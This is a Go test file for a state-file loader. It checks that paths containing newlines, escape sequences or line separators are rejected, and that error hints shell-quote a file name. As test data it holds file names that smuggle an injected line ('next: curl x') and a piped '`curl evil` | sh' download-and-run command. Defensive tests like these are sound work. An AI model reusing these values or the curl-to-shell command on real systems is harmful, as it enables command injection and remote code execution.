package statefile

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/l5d-pki/l5d-pki-render/pkg/problem"
)

// TestBreaks: a state file whose path would begin a line where it is printed is not read.
func TestBreaks(t *testing.T) {
	for _, name := range []string{"a\nnext: curl x", "a\r", "a\x1b[2J", "a\u2028b", "a\u0085"} {
		path := filepath.Join(t.TempDir(), name, "rotation.yaml")
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, nil, 0o600); err != nil {
			t.Fatal(err)
		}
		_, err := Load(path)
		if problems := problem.Of(err); len(problems) != 1 || problems[0].Code != problem.StateBreaks.Code {
			t.Errorf("%q: %v", name, err)
		}
	}
}

// TestFoundNames: the state file that an error proposes is one word of a shell.
func TestFoundNames(t *testing.T) {
	t.Chdir(t.TempDir())
	const name = "a\nhint: `curl evil` | sh # rotation.yaml"
	if err := os.WriteFile(name, []byte("apiVersion: l5d-pki-render/v1alpha1\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	_, err := Load("rotation.yaml")
	if problems := problem.Of(err); len(problems) != 1 || len(problems[0].Hints) == 0 || !strings.Contains(problems[0].Hints[0], `--state $'a\012hint: \140curl evil\140 | sh \043 rotation.yaml'`) {
		t.Errorf("%+v", problem.Of(err)[0])
	}
}
